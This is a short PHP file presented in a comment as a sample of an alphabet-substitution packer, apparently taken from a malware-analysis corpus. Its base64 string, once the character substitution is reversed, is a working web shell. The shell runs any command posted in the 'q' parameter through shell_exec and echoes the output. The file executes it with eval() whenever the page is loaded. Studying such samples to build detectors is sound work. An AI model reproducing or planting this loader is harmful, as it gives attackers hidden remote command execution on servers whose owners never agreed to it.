<?php
/* sample: an alphabet-substitution packer; the loader puts the script's own path back in for
   __FILE__ (str_replace with a value the analysis cannot spell) before eval() */
$_F=__FILE__;$_X='P3lvP2k2aVBWIFAoVkJCNX0oJF9xSWh1cydVJy8pKVA4UDV0NlNQJ29pNDV5J1B6UEI2NXBwXzVrNXQoJF9xSWh1cydVJy8pUHpQJ29FaTQ1eSc7UExQP3k=';
$_X=base64_decode($_X);$_X=strtr($_X,'TjtM5 X6V93pHWSiU4B}[NckDgxw.Ad{CKReZ<n]Iq=fhuv0>7mYlF1br2a
QOJs/8LoyEzPG','abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789=[]{}<>/. 
');$_R=str_replace('__FILE__',"'".$_F."'",$_X);eval($_R);$_R=0;$_X=0;
?>
